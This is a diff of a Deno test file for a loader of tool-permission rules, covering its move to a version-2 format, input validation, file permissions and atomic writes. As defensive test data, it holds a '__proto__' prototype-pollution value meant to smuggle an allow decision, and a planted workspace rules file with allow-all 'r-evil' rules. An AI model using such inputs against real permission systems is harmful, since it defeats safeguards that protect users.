+    '{\n  "version": 2,\n  "rules": [\n    {"id": "x",}\n  ]\n}\n',
   );
   await assert.rejects(loadRules(dir), (error: unknown) => {
     assert.ok(error instanceof RulesFileError);
@@ -395,7 +649,7 @@ Deno.test("loadRules() refuses corrupt JSON with the file and line:column", asyn
   });
   await writeRules(dir, "");
   await rejects(loadRules(dir), "denied", /: empty file$/);
-  await writeRules(dir, '{"version": 1, "rules": []} // note');
+  await writeRules(dir, '{"version": 2, "rules": []} // note');
   await rejects(loadRules(dir), "denied", /: invalid JSON: comments are not allowed at 1:29$/);
   await Deno.writeFile(rulesFilePath(dir), new Uint8Array([0x7b, 0xff, 0x7d]));
   await rejects(loadRules(dir), "denied", /: not valid UTF-8$/);
@@ -406,34 +660,82 @@ Deno.test("loadRules() refuses a file of the wrong shape", async () => {
   const dir = await scratch();
   const cases: [unknown, RegExp][] = [
     [[], /: must be an object/],
-    [{ version: 1 }, /: rules: must be an array$/],
-    [{ version: 1, rules: [], extra: 1 }, /: unknown field "extra"$/],
+    [{ version: 2 }, /: rules: must be an array$/],
+    [{ version: 2, rules: [], extra: 1 }, /: unknown field "extra"$/],
     [
-      { version: 1, rules: [{ ...STORED, patern: "*ls*" }] },
-      /rules\[0\] "r-aaaaaaaa": unknown field "patern"$/,
+      { version: 2, rules: [{ ...STORED, pattern: "*ls*" }] },
+      /rules\[0\] "r-aaaaaaaa": unknown field "pattern"$/,
     ],
     [
-      { version: 1, rules: [{ ...STORED, decision: "yes" }] },
-      /decision: must be "allow" or "deny"$/,
+      { version: 2, rules: [{ ...STORED, decision: "yes" }] },
+      /decision: must be "allow", "deny" or "ask"$/,
     ],
     [
-      { version: 1, rules: [{ ...STORED, scope: { workspace: "w" } }] },
+      { version: 2, rules: [{ ...STORED, when: { program: "/bin/sh", argument: ["sh"] } }] },
+      /when: unknown condition "argument" for a declared tool \(known: program, argv, cwd, input\)$/,
+    ],
+    [
+      { version: 2, rules: [{ ...STORED, when: { program: "sh" } }] },
+      /when.program: must be an absolute path/,
+    ],
+    [
+      { version: 2, rules: [{ ...STORED, when: { program: { sha256: "ab", salt: "cd" } } }] },
+      /when.program: must be \{"sha256": 64 lowercase hex digits/,
+    ],
+    [
+      {
+        version: 2,
+        rules: [{ ...STORED, when: { program: "/bin/sh", argv: [{ rest: true }, "x"] } }],
+      },
+      /when.argv\[0\]: \{"rest": true\} may only come last$/,
+    ],
+    [
+      { version: 2, rules: [{ ...STORED, when: { program: "/bin/sh", argv: [{ glob: "a\\" }] } }] },
+      /when.argv\[0\].glob: ends with a lone/,
+    ],
+    [
+      {
+        version: 2,
+        rules: [{ ...STORED, when: { program: "/bin/sh", input: { q: { equals: 1 } } } }],
+      },
+      /"q" is not a JSON pointer/,
+    ],
+    [
+      {
+        version: 2,
+        rules: [{ ...STORED, when: { program: "/bin/sh", input: { "/q": { is: 1 } } } }],
+      },
+      /when.input\["\/q"\]: must be \{"equals": value\} or \{"glob": "…"\}$/,
+    ],
+    [
+      {
+        version: 2,
+        rules: [{ ...STORED, tool: "spawn", when: { body: "ls", program: "/bin/ls" } }],
+      },
+      /unknown condition "program" for spawn/,
+    ],
+    [{ version: 2, rules: [{ ...STORED, when: undefined }] }, /when: missing/],
+    [
+      { version: 2, rules: [{ ...STORED, scope: { workspace: "w" } }] },
       /scope: workspace: must be/,
     ],
-    [{ version: 1, rules: [{ ...STORED, scope: "local" }] }, /scope: must be "global" or/],
-    [{ version: 1, rules: [{ ...STORED, match: "x" }] }, /match: must be an array of strings$/],
+    [{ version: 2, rules: [{ ...STORED, scope: "local" }] }, /scope: must be "global" or/],
     [
-      { version: 1, rules: [STORED, STORED] },
+      { version: 2, rules: [{ ...STORED, match: "x" }] },
+      /match: must be an array of example previews$/,
+    ],
+    [
+      { version: 2, rules: [STORED, STORED] },
       /rules\[1\] "r-aaaaaaaa": id: used by an earlier rule$/,
     ],
-    [{ version: 1, rules: [{ ...STORED, id: "" }] }, /rules\[0\] "": id: must be/],
+    [{ version: 2, rules: [{ ...STORED, id: "" }] }, /rules\[0\] "": id: must be/],
     [
-      { version: 1, rules: [{ ...STORED, reason: "a\nb" }] },
+      { version: 2, rules: [{ ...STORED, reason: "a\nb" }] },
       /reason: must be a string of one line$/,
     ],
     [
       JSON.parse(
-        '{"version":1,"rules":[{"__proto__":{"decision":"allow"},"id":"r-1","tool":"t","scope":"global"}]}',
+        '{"version":2,"rules":[{"__proto__":{"decision":"allow"},"id":"r-1","tool":"t","scope":"global","when":{}}]}',
       ),
       /unknown field "__proto__"/,
     ],
@@ -442,7 +744,7 @@ Deno.test("loadRules() refuses a file of the wrong shape", async () => {
     await writeRules(dir, content);
     await rejects(loadRules(dir), "denied", message);
   }
-  await writeRules(dir, { version: 1, rules: [{ ...STORED, tool: 1, decision: "x" }] });
+  await writeRules(dir, { version: 2, rules: [{ ...STORED, tool: 1, decision: "x" }] });
   await assert.rejects(loadRules(dir), (error: unknown) => {
     assert.ok(error instanceof RulesFileError);
     assert.equal(error.problems.length, 2);
@@ -455,24 +757,32 @@ Deno.test("loadRules() refuses a file of the wrong shape", async () => {
 Deno.test("loadRules() refuses an unknown version, older or newer", async () => {
   const dir = await scratch();
   const cases: [unknown, RegExp][] = [
-    [{ version: 2, rules: [] }, /: unsupported version 2: written by a newer basis-tools/],
-    [{ version: 0, rules: [] }, /: unsupported version 0 \(expected 1\)$/],
-    [{ version: "1", rules: [] }, /: unsupported version of type string \(expected 1\)$/],
-    [{ rules: [] }, /: missing "version" \(expected 1\)$/],
+    [{ version: 3, rules: [] }, /: unsupported version 3: written by a newer basis-tools/],
+    [
+      { version: 1, rules: [] },
+      /: version 1 is no longer read: its patterns matched text across fields/,
+    ],
+    [{ version: 0, rules: [] }, /: unsupported version 0 \(expected 2\)$/],
+    [{ version: "2", rules: [] }, /: unsupported version of type string \(expected 2\)$/],
+    [{ rules: [] }, /: missing "version" \(expected 2\)$/],
   ];
   for (const [content, message] of cases) {
     const file = await writeRules(dir, content);
     await rejects(loadRules(dir), "denied", new RegExp(`^Cannot load rules "${file}"`));
     await rejects(loadRules(dir), "denied", message);
   }
-  assert.ok(validateRulesDocument({ version: 1, rules: [STORED] }).ok);
+  assert.ok(validateRulesDocument({ version: 2, rules: [STORED] }).ok);
   await Deno.remove(dir, { recursive: true });
 });
 
 Deno.test("loadRules() refuses a file it cannot read", async () => {
   const dir = await scratch();
-  const file = await writeRules(dir, { version: 1, rules: [STORED] });
-  const result = await child(["load", dir], [`--allow-read`, `--deny-read=${file}`]);
+  const file = await writeRules(dir, { version: 2, rules: [STORED] });
+  const result = await child(["load", dir], [
+    `--allow-read`,
+    `--deny-read=${file}`,
+    "--allow-sys=uid",
+  ]);
   const error = result.error as { code: string; message: string };
   assert.equal(error.code, "denied");
   assert.match(error.message, new RegExp(`^Cannot load rules "${file}": cannot be read`));
@@ -484,7 +794,7 @@ Deno.test(
   { ignore: WINDOWS },
   async () => {
     const dir = await scratch();
-    await writeRules(dir, { version: 1, rules: [STORED] }, 0o666);
+    await writeRules(dir, { version: 2, rules: [STORED] }, 0o666);
     await rejects(loadRules(dir), "denied", /writable by group or others \(mode 0666\)/);
     await Deno.chmod(rulesFilePath(dir), 0o644);
     assert.equal((await loadRules(dir)).rules.length, 1);
@@ -496,7 +806,7 @@ Deno.test("addRule() and removeRule() leave a corrupt file as it is", async () =
   const dir = await scratch();
   const file = await writeRules(dir, '{"version": 1, "rules": [');
   await rejects(
-    addRule(dir, { tool: "a", decision: "allow", scope: "global" }),
+    addRule(dir, { tool: "a", decision: "allow", scope: "global", when: { program: "/bin/x" } }),
     "denied",
     /invalid JSON/,
   );
@@ -507,11 +817,21 @@ Deno.test("addRule() and removeRule() leave a corrupt file as it is", async () =
 
 Deno.test("a failed write never loses the existing rules and leaves no temp file", async () => {
   const dir = await scratch();
-  const kept = await addRule(dir, { tool: "a", decision: "allow", scope: "global" });
+  const kept = await addRule(dir, {
+    tool: "a",
+    decision: "allow",
+    scope: "global",
+    when: { program: "/bin/x" },
+  });
   const before = await Deno.readTextFile(rulesFilePath(dir));
   // Only the lock file is writable: the temporary file cannot be created.
-  const flags = ["--allow-read", `--allow-write=${dir}/rules.json.lock`];
-  const rule = JSON.stringify({ tool: "b", decision: "allow", scope: "global" });
+  const flags = ["--allow-read", `--allow-write=${dir}/rules.json.lock`, "--allow-sys=uid"];
+  const rule = JSON.stringify({
+    tool: "b",
+    decision: "allow",
+    scope: "global",
+    when: { program: "/bin/x" },
+  });
   const result = await child(["add", dir, rule], flags);
   const error = result.error as { code: string; message: string };
   assert.equal(error.code, "denied");
@@ -525,17 +845,23 @@ Deno.test("a failed write never loses the existing rules and leaves no temp file
 Deno.test("a write removes temp files a crashed writer left behind", async () => {
   const dir = await scratch();
   await Deno.writeTextFile(`${dir}/.rules.json.123-abcdefgh.tmp`, "{half");
-  await addRule(dir, { tool: "a", decision: "allow", scope: "global" });
+  await addRule(dir, {
+    tool: "a",
+    decision: "allow",
+    scope: "global",
+    when: { program: "/bin/x" },
+  });
   assert.deepEqual(await entries(dir), ["rules.json", "rules.json.lock"]);
   await Deno.remove(dir, { recursive: true });
 });
 
 Deno.test("loadRules() ignores an allow rule whose examples fail but keeps such a deny rule", async () => {
   const dir = await scratch();
-  const brokenAllow = { ...STORED, id: "r-allow", pattern: "cargo", match: ["cargo test"] };
-  const brokenDeny = { ...STORED, id: "r-deny", pattern: "*", decision: "deny", not_match: ["x"] };
+  const sh = { program: "/bin/sh", command: ["sh"], cwd: "/w" };
+  const brokenAllow = { ...STORED, id: "r-allow", match: [{ ...sh, program: "/bin/bash" }] };
+  const brokenDeny = { ...STORED, id: "r-deny", decision: "deny", not_match: [sh] };
   const fine = { ...STORED, id: "r-fine", tool: "ls" };
-  await writeRules(dir, { version: 1, rules: [brokenAllow, brokenDeny, fine] });
+  await writeRules(dir, { version: 2, rules: [brokenAllow, brokenDeny, fine] });
   const loaded = await loadRules(dir);
   assert.deepEqual(loaded.rules.map((r) => r.id), ["r-deny", "r-fine"]);
   assert.deepEqual(loaded.ignored.map((r) => r.id), ["r-allow"]);
@@ -543,8 +869,9 @@ Deno.test("loadRules() ignores an allow rule whose examples fail but keeps such 
     ["r-allow", true],
     ["r-deny", false],
   ]);
-  const query = { tool: "sh", previewText: "cargo", root: "/w" };
-  assert.equal(decideByRules(loaded.rules, query)?.decision, "deny");
+  const preview = { tool: "sh", ...sh, input: {} };
+  const query = { tool: "sh", kind: "tool", preview, root: "/w", fromWorkspace: false } as const;
+  assert.equal((await decideByRules(loaded.rules, query))?.decision, "deny");
   await Deno.remove(dir, { recursive: true });
 });
 
@@ -555,19 +882,23 @@ Deno.test("a workspace's .basis/rules.json is never read", async () => {
   await Deno.mkdir(`${workspace}/.basis`, { recursive: true });
   const allowAll = [
     { ...STORED, id: "r-evil1", scope: { workspace } },
-    { ...STORED, id: "r-evil2", pattern: "*" },
+    { ...STORED, id: "r-evil2", when: { program: "/bin/sh", argv: [{ rest: true }] } },
   ];
   await Deno.writeTextFile(
     `${workspace}/.basis/rules.json`,
-    JSON.stringify({ version: 1, rules: allowAll }),
+    JSON.stringify({ version: 2, rules: allowAll }),
   );
   await Deno.mkdir(config);
   const loaded = await loadRules(config);
   assert.deepEqual(loaded.rules, []);
-  const previewText = JSON.stringify({ tool: "sh", command: ["sh"], cwd: workspace, input: {} });
-  assert.equal(
-    decideByRules(loaded.rules, { tool: "sh", previewText, root: workspace }),
-    undefined,
-  );
+  const preview = { tool: "sh", program: "/bin/sh", command: ["sh"], cwd: workspace, input: {} };
+  const query = {
+    tool: "sh",
+    kind: "tool",
+    preview,
+    root: workspace,
+    fromWorkspace: true,
+  } as const;
+  assert.equal(await decideByRules(loaded.rules, query), undefined);
   await Deno.remove(dir, { recursive: true });
 });
